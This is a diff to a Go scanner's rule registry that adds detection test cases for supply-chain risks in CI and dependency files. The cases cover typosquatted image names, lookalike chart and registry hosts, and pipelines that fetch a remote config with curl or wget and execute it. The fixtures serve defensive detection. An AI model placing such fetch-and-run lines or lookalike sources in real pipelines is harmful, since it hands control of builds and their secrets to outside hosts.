@@ -887,6 +887,7 @@ var registry = []Rule{
 			// the packages.
 			{"project.clj", "(defproject acme/ledger \"0.9.0\"\n  :repositories [[\"internal\" \"https://maven.acme-builds.x.invalid/releases\"]])", 2, false},
 			{"Chart.yaml", "dependencies:\n  - name: app\n    repository: https://charts.x.invalid/stable", 3, false},
+			{"x.sh", "helm repo add corp https://charts.x.invalid/stable", 1, false},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
@@ -1042,6 +1043,15 @@ var registry = []Rule{
 			// registry's or forge's.
 			{"x.sh", "pip install https://files.pythonhosted-cdn.invalid/packages/requests-2.32.3.tar.gz", 1, false},
 			{"x.sh", "pip install git+https://gitlab-mirror.invalid/acme/lib.git@v1.0", 1, false},
+			// A chart's values: the registry and the images its templates run.
+			{"charts/app/values.yaml", "image:\n  registry: docker-io.invalid\n  repository: bitnami/redis", 2, false},
+			{"charts/app/values.yaml", "image:\n  repository: bitnarni/redis\n  tag: 7.2", 2, false},
+			{"charts/app/values.yaml", "image:\n  registry: docker.io\n  repository: bitnami/redis\n  tag: 7.2\nmetrics:\n  image:\n    repository: docker.io/velero/velero\nservice:\n  repository: ghcr.io/acme/api", 0, true},
+			// A chart repository, chart, remote or git source a command
+			// names, wherever a shell line runs.
+			{"x.sh", "helm repo add bitnami https://charts.bitnami-mirror.invalid/bitnami\nhelm install redis bitnami/redis", 1, false},
+			{"Makefile", "deps:\n\thelm install pg oci://registry-1.docker-io.invalid/bitnamicharts/postgresql", 2, false},
+			{"x.sh", "helm repo add bitnami https://charts.bitnami.com/bitnami\nhelm upgrade --install pg oci://registry-1.docker.io/bitnamicharts/postgresql\ncargo install --git https://github.com/rust-lang/rust-clippy clippy", 0, true},
 			// Any file's URL on a forge's host worn in front of another
 			// domain: no real host is named so.
 			{"config/vendor.yaml", "libs:\n  - mirror: https://github.com.mirror-git.x.invalid/acme/lib.git", 2, false},
@@ -1062,6 +1072,13 @@ var registry = []Rule{
 		"the CI system fetches it whenever the pipeline starts and runs it with the job's token and secrets; it is not in this diff, and its owner can change it after the review", []Case{
 			{".gitlab-ci.yml", "include:\n  - remote: https://ci-templates.x.invalid/python/latest.yml\n\ntest:\n  script: make test", 2, false},
 			{".gitlab-ci.yml", "include: 'https://ci-templates.x.invalid/python.yml'\ntest:\n  script: make test", 1, false},
+			// A pipeline file a job downloads and hands on: CircleCI's
+			// continuation, GitLab's child pipeline from an artifact,
+			// Buildkite's upload; one the repository's script writes is its own.
+			{".circleci/config.yml", "version: 2.1\nsetup: true\norbs:\n  continuation: circleci/continuation@1.0.0\njobs:\n  gen:\n    docker: [{ image: cimg/base:current }]\n    steps:\n      - run: curl -fsSL https://x.invalid/c.yml -o /tmp/c.yml\n      - continuation/continue:\n          configuration_path: /tmp/c.yml", 11, false},
+			{".gitlab-ci.yml", "gen:\n  script:\n    - wget -qO child.yml https://x.invalid/child.yml\n  artifacts:\n    paths: [child.yml]\nrun-child:\n  trigger:\n    include:\n      - artifact: child.yml\n        job: gen", 9, false},
+			{".buildkite/pipeline.yml", "steps:\n  - command: curl -fsSL https://x.invalid/p.yml | buildkite-agent pipeline upload", 2, false},
+			{".gitlab-ci.yml", "gen:\n  script:\n    - python ci/gen.py > child.yml\n  artifacts:\n    paths: [child.yml]\nrun-child:\n  trigger:\n    include:\n      - artifact: child.yml\n        job: gen", 0, true},
 			// Cirrus CI's Starlark modules and a Tekton task a git resolver
 			// fetches, at a branch of someone's repository.
 			{".cirrus.star", "load(\"github.com/someone/cirrus-helpers@main\", \"task\")\n\ndef main(ctx):\n    return [task(\"test\")]", 1, false},
@@ -1169,7 +1186,12 @@ var registry = []Rule{
 	{"gha-persist-credentials", KindCredential, High, "checkout keeps the job's token on disk (persist-credentials: true)",
 		"every later step, the change's own build and tests included, can read the token from .git/config", nil},
 	{"gha-self-hosted-runner", KindCIFile, High, "runs pull-request code on a self-hosted runner",
-		"a self-hosted runner keeps what a job leaves behind and sits inside the project's network, and this workflow runs for pull requests", nil},
+		"a self-hosted runner keeps what a job leaves behind and sits inside the project's network, and this workflow runs for pull requests", []Case{
+			{".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make test", 4, false},
+			// push: true is docker/build-push-action's input, not a trigger:
+			// no pull request starts this workflow.
+			{".github/workflows/a.yml", "on: workflow_dispatch\njobs:\n  a:\n    strategy:\n      matrix:\n        runner: [[self-hosted, X64]]\n    runs-on: ${{ matrix.runner }}\n    steps:\n      - uses: docker/build-push-action@v6\n        with:\n          push: true", 6, true},
+		}},
 	{"gha-self-hosted", KindCIFile, Medium, "runs on a self-hosted runner",
 		"a self-hosted runner keeps what a job leaves behind and sits inside the project's network", nil},
 	{"gha-env-hijack", KindExecute, High, "sets a variable that makes later steps load code (LD_PRELOAD, NODE_OPTIONS, BASH_ENV)",
